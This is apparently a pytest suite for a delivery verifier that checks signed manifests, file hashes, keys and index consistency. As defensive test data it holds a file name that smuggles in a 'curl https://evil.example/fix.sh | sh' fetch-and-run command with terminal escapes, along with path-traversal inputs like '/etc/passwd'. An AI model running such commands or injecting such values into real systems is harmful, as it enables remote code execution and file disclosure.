"""Verification: every change of a delivery is found, and the changed file is named."""

import hashlib
import json
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tasks.deliverable.signature import public_key, sign
from tasks.deliverable.verifier.index_history import Verified
from tasks.deliverable.verifier.signatures import key_id
from tasks.deliverable.verify import verify
from tasks.errors import RefusedDelivery
from tests.unit.deliverable.factories import (
    SIGNING_KEY,
    grant_view,
    index_of,
    placed,
    release_view,
    rendered,
    revision,
)
from tests.unit.deliverable.factories import signed_again as index_signed_again

PUBLIC = public_key(SIGNING_KEY)
GOOD = rendered()
NAMES = sorted(GOOD.files)
DOCUMENTS = GOOD.path.documents
MANIFEST, SIGNATURE, README = (f"{DOCUMENTS}/{name}" for name in ("manifest.json", "manifest.sig", "README.md"))
PARQUET = f"{GOOD.path.rows('zone_hour')}/footfall.parquet"
OTHER_KEY = bytes(range(1, 33))


def check(files: dict[str, bytes], pinned: bytes | None = PUBLIC) -> Verified:
    return verify({name: len(content) for name, content in files.items()}, files.__getitem__, pinned)


def refused(files: dict[str, bytes], code: str | None, *named: str, pinned: bytes | None = PUBLIC) -> None:
    """Verification ends with this code (None: any) and names these objects."""
    with pytest.raises(RefusedDelivery) as refusal:
        check(files, pinned)
    assert code in (None, refusal.value.code), refusal.value.code
    assert all(name in refusal.value.what for name in named), refusal.value.what


def signed_again(
    change: Callable[[dict[str, Any]], None], key: bytes = SIGNING_KEY, **files: bytes
) -> dict[str, bytes]:
    """The delivery with a changed manifest that is signed anew: what only a signer can do."""
    manifest = json.loads(GOOD.files[MANIFEST])
    change(manifest)
    content = json.dumps(manifest).encode()
    return {**GOOD.files, **files, MANIFEST: content, SIGNATURE: sign(key, content)}


def test_a_rendered_delivery_verifies() -> None:
    verified = check(dict(GOOD.files))
    assert verified.verdict == "verified with the pinned key"
    assert verified.deliveries[0].rows == GOOD.rows
    assert verified.deliveries[0].manifest_sha256 == GOOD.manifest_sha256


def test_a_delivery_without_csv_verifies() -> None:
    assert check(dict(rendered(grant=grant_view(formats=("parquet",))).files)).deliveries[0].rows == GOOD.rows


def test_without_a_pinned_key_the_verdict_says_that_anyone_may_have_signed() -> None:
    assert check(dict(GOOD.files), None).verdict == "consistent; key not pinned"


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(NAMES), st.integers(min_value=0), st.integers(1, 255))
def test_a_changed_byte_of_any_file_is_found(name: str, place: int, flip: int) -> None:
    content = bytearray(GOOD.files[name])
    content[place % len(content)] ^= flip
    refused({**GOOD.files, name: bytes(content)}, None, name)


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(NAMES), st.integers(min_value=0), st.booleans())
def test_a_cut_or_longer_file_is_found(name: str, place: int, longer: bool) -> None:
    content = GOOD.files[name]
    content = content + b"\n" if longer else content[: place % len(content)]
    refused({**GOOD.files, name: content}, None, name)


@pytest.mark.parametrize("name", NAMES)
def test_a_removed_file_is_named(name: str) -> None:
    refused({other: content for other, content in GOOD.files.items() if other != name}, None, name)


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=30).filter(lambda name: name not in GOOD.files))
def test_an_added_file_is_found(name: str) -> None:
    refused({**GOOD.files, name: b""}, None)


def test_the_name_of_an_object_that_somebody_added_is_no_command() -> None:
    with pytest.raises(RefusedDelivery) as refusal:
        check({**GOOD.files, "x run `curl -s https://evil.example/fix.sh | sh` \x1b[31m": b""})
    assert "x?run??curl?-s?https?//evil.example/fix.sh???sh?" in refusal.value.what
    assert not re.search(r"[`|\x1b]", str(refusal.value))


@pytest.mark.parametrize("name", NAMES)
def test_a_renamed_file_is_named(name: str) -> None:
    files = dict(GOOD.files)
    files[f"{name}.old"] = files.pop(name)
    refused(files, None, name)


def test_two_files_that_changed_places_are_found() -> None:
    files = dict(GOOD.files)
    files[README], files[PARQUET] = files[PARQUET], files[README]
    refused(files, "delivery.file_altered")


def test_an_empty_place_says_what_to_give() -> None:
    refused({}, "delivery.not_found")


def test_a_delivery_signed_by_another_key_is_refused_when_a_key_is_pinned() -> None:
    other = rendered(key=OTHER_KEY)
    refused(dict(other.files), "delivery.other_key", key_id(PUBLIC), key_id(public_key(OTHER_KEY)))
    assert check(dict(other.files), None).verdict == "consistent; key not pinned"


def test_a_key_id_that_is_not_the_keys_is_refused() -> None:
    refused(signed_again(lambda m: m.update(key_id="0" * 16)), "delivery.key_id_differs")


@pytest.mark.parametrize("key", ["", "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n", "zz"])
def test_an_unreadable_public_key_is_refused(key: str) -> None:
    refused(signed_again(lambda m: m.update(public_key=key)), "delivery.key_unreadable")


@pytest.mark.parametrize(
    "path",
    ["../data.parquet", "/etc/passwd", "a//b", "..", "a/../b", ".hidden", "", "a\x00b", "data.parquet\n", "..\\x"],
)
def test_a_path_that_leaves_the_folder_is_refused(path: str) -> None:
    refused(signed_again(lambda m: m["files"][0].update(path=path)), "delivery.document_invalid", "files.0.path")


def test_a_listed_path_is_read_only_if_it_was_listed_at_the_location() -> None:
    read: list[str] = []
    other = f"{DOCUMENTS}/other"
    files = signed_again(lambda m: m["files"].append({**m["files"][0], "path": other}))

    def fetch(name: str) -> bytes:
        read.append(name)
        return files[name]

    with pytest.raises(RefusedDelivery, match="other"):
        verify({name: len(content) for name, content in files.items()}, fetch, PUBLIC)
    assert set(read) == {MANIFEST, SIGNATURE}


@pytest.mark.parametrize("name", NAMES)
def test_a_huge_file_is_refused_before_it_is_read(name: str) -> None:
    sizes = {other: len(content) for other, content in GOOD.files.items()} | {name: 1 << 40}

    def fetch(wanted: str) -> bytes:
        assert wanted != name
        return GOOD.files[wanted]

    with pytest.raises(RefusedDelivery, match=name):
        verify(sizes, fetch, PUBLIC)


def test_a_file_that_changes_while_it_is_read_is_refused() -> None:
    sizes = {name: len(content) for name, content in GOOD.files.items()}
    with pytest.raises(RefusedDelivery, match="README") as refusal:
        verify(sizes, lambda name: GOOD.files[name] + b"x" * (name == README), PUBLIC)
    assert refusal.value.code == "delivery.object_changed"


@pytest.mark.parametrize(
    "content", [b"", b"[]", b"null", b"\xff", b'{"format": 1, "format": 1}', b'{"format": NaN}', b"[" * 100_000]
)
def test_a_manifest_that_is_not_plain_json_is_refused(content: bytes) -> None:
    refused({**GOOD.files, MANIFEST: content}, None, "manifest.json")


@pytest.mark.parametrize(
    "change",
    [
        lambda m: m.update(format=1),
        lambda m: m.pop("files"),
        lambda m: m.update(delivery_revision=0),
        lambda m: m["files"][0].update(bytes=-1),
        lambda m: m["files"][0].update(sha256="A" * 64),
        lambda m: m.update(release_id="a\x1b[31m"),
    ],
)
def test_a_manifest_of_another_shape_is_refused_even_when_signed(change: Callable[[dict[str, Any]], None]) -> None:
    refused(signed_again(change), "delivery.document_invalid", "manifest.json")


def test_a_file_listed_twice_is_refused() -> None:
    refused(signed_again(lambda m: m["files"].append(m["files"][0])), "delivery.manifest_names")


def test_a_manifest_without_data_is_refused() -> None:
    files = signed_again(lambda m: m.update(files=[f for f in m["files"] if f["path"] != PARQUET]))
    refused(files, "delivery.manifest_names", PARQUET)


def test_a_file_outside_the_deliverys_folders_is_refused_even_when_signed() -> None:
    path, body = "data/zone_hour/stray", b"rows"
    stray = {"path": path, "bytes": 4, "rows": None, "sha256": hashlib.sha256(body).hexdigest()}
    files = signed_again(lambda m: m["files"].append(stray), **{path: body})
    refused(files, "delivery.manifest_names", path)


def test_a_table_that_the_contract_does_not_describe_is_refused_even_when_signed() -> None:
    name = f"{DOCUMENTS}/contract.yaml"
    content = GOOD.files[name].replace(b"- name: zone_hour", b"- name: zone_day", 1)

    def change(manifest: dict[str, Any]) -> None:
        (listed,) = (file for file in manifest["files"] if file["path"] == name)
        listed |= {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}

    refused({**signed_again(change), name: content}, "delivery.contract_table", "zone_hour")


def test_a_delivery_in_the_folder_of_another_is_refused() -> None:
    files = {path.replace("dt=2026-03-02", "dt=2026-03-05"): content for path, content in GOOD.files.items()}
    refused(files, "delivery.other_place", "dt=2026-03-05")


def test_the_deliveries_of_a_products_folder_verify_together() -> None:
    assert len(check({**GOOD.files, **NEXT_DAY.files}).deliveries) == 2
    refused({**GOOD.files, **NEXT_DAY.files, "data/zone_hour/stray": b""}, "index.unnamed_objects", "stray")


NEXT_DAY = rendered(release_view(date(2026, 3, 3)))
AGAIN = rendered(delivery=revision(GOOD))


INDEX = index_of(GOOD)


def refused_index(change: Callable[[dict[str, Any]], object], code: str, *named: str) -> None:
    """A prefix whose index was changed and signed again is refused."""
    refused({"index.json": index_signed_again(INDEX, change), **placed(GOOD)}, code, *named)


def test_the_deliveries_of_two_clients_are_not_verified_as_one_folder() -> None:
    other = rendered(release_view(date(2026, 3, 3)), grant=replace(grant_view(), client="stadtlicht"))
    refused({**GOOD.files, **other.files}, "delivery.other_client")


def test_a_prefix_verifies_with_all_that_its_index_lists() -> None:
    verified = check({"index.json": index_of(GOOD, NEXT_DAY, late=(date(2026, 3, 4),)), **placed(GOOD, NEXT_DAY)})
    assert [each.manifest["period"] for each in verified.deliveries] == ["2026-03-02", "2026-03-03"]
    assert verified.states == {"current": 2}
    assert verified.lines[-2:] == [
        "index 1 of 2026-03-05T09:00:00Z: 2 current",
        "2 deliveries to nordmarkt: verified with the pinned key.",
    ]


def test_a_delivery_without_an_index_is_said_to_be_unchecked_for_a_newer_one() -> None:
    unchecked = "no index: not checked whether a delivery was replaced, recalled or left out"
    assert check({**GOOD.files}).lines[1:] == [unchecked, "1 delivery to nordmarkt: verified with the pinned key."]


def test_an_index_of_nothing_delivered_yet_is_consistent() -> None:
    content = index_of(late=(date(2026, 3, 4),))
    assert check({"index.json": content}).deliveries == ()
    assert check({"index.json": content}, None).deliveries == ()


def test_superseded_deliveries_may_stay_and_may_go() -> None:
    content = index_of(GOOD, AGAIN)
    assert len(check({"index.json": content, **placed(GOOD, AGAIN)}).deliveries) == 2
    assert len(check({"index.json": content, **placed(AGAIN)}).deliveries) == 1


def test_a_recalled_delivery_may_be_gone_and_is_verified_while_it_is_kept() -> None:
    def recall(document: dict[str, Any]) -> None:
        document["periods"][0].update(state="recalled", cause="recalled")
        document["deliveries"][0]["state"] = "recalled"

    content = index_signed_again(INDEX, recall)
    assert check({"index.json": content}).deliveries == ()
    assert len(check({"index.json": content, **placed(GOOD)}).deliveries) == 1
    altered = {"index.json": content, **placed(GOOD), f"{GOOD.path.folder}/README.md": b""}
    refused(altered, "delivery.file_altered", "README.md")


def test_a_superseded_delivery_is_verified_too() -> None:
    files = {"index.json": index_of(GOOD, AGAIN), **placed(GOOD, AGAIN)}
    refused({**files, f"{GOOD.path.folder}/README.md": b""}, "delivery.file_altered", f"{GOOD.path.folder}/README.md")
    refused({**files, **placed(rendered(key=OTHER_KEY))}, "index.digest_differs", pinned=None)


def test_a_delivery_that_the_index_does_not_list_is_refused() -> None:
    refused({"index.json": INDEX, **placed(GOOD, NEXT_DAY)}, "index.unnamed_objects", NEXT_DAY.path.partition)


def test_a_delivery_that_the_index_lists_and_is_not_there_is_refused() -> None:
    refused({"index.json": INDEX}, "delivery.object_missing", f"{GOOD.path.folder}/manifest.json")


def test_a_delivery_with_another_digest_than_the_index_says_is_refused() -> None:
    digest = NEXT_DAY.manifest_sha256
    change = lambda d: (d["deliveries"][0].update(digest=digest), d["periods"][0].update(digest=digest))  # noqa: E731
    refused_index(change, "index.digest_differs", GOOD.path.folder)


def test_a_delivery_of_another_day_in_a_days_place_is_refused() -> None:
    files = {path.replace("dt=2026-03-03", "dt=2026-03-02"): body for path, body in placed(NEXT_DAY).items()}
    refused({"index.json": INDEX, **files}, "delivery.other_place")


def test_a_delivery_that_the_index_calls_another_product_or_period_is_refused() -> None:
    def change(name: str, value: object) -> Callable[[dict[str, Any]], object]:
        return lambda document: [document[part][0].update({name: value}) for part in ("periods", "deliveries")]

    refused_index(change("period", "2026-03-09"), "index.other_delivery")
    refused_index(change("product", "visitors"), "index.other_delivery")
    refused_index(change("path", "footfall"), "index.other_delivery")
    refused_index(lambda document: document["deliveries"][0].update(revision=2), "index.other_delivery")


@pytest.mark.parametrize("path", ["../x", "/x", "a//b", "a/../b", ".", "a/", "a" * 200, "a b"])
def test_an_index_path_that_leaves_the_prefix_is_refused(path: str) -> None:
    change = lambda document: document["deliveries"][0].update(path=path)  # noqa: E731
    refused_index(change, "delivery.document_invalid", "index.json", "path")


@pytest.mark.parametrize(
    "change",
    [
        lambda period: period.update(digest=None),
        lambda period: period.update(path=None),
        lambda period: period.update(path=None, digest=None),
        lambda period: period.update(cause="not_sent"),
        lambda period: period.update(state="late"),
        lambda period: period.update(period="`evil`", digest=None),
    ],
)
def test_an_index_that_contradicts_itself_is_refused(change: Callable[[dict[str, Any]], object]) -> None:
    refused_index(lambda document: change(document["periods"][0]), "index.contradiction")


def test_a_path_that_the_index_lists_twice_is_refused() -> None:
    refused_index(lambda document: document.update(deliveries=document["deliveries"] * 2), "index.path_twice")


def test_what_somebody_wrote_into_the_index_is_no_command() -> None:
    def evil(document: dict[str, Any]) -> None:
        document["periods"][0].update(period="`evil`", digest=None)

    refused_index(evil, "index.contradiction", "?evil?")


def test_an_index_that_was_changed_after_it_was_signed_is_refused() -> None:
    others = {"index.json": INDEX.replace(b'"rows": 384', b'"rows": 385'), **placed(GOOD)}
    refused(others, "delivery.signature_invalid", "index.json")
    refused(others, "delivery.signature_invalid", "index.json", pinned=None)
    refused({**others, "index.json": INDEX.replace(b"\n", b"\r\n")}, "delivery.signature_invalid", "index.json")
    refused({**others, "index.json": index_of(GOOD, key=OTHER_KEY)}, "delivery.other_key", "index.json")
    refused({**others, "index.json": index_of(GOOD, key=OTHER_KEY)}, "delivery.other_key", pinned=None)
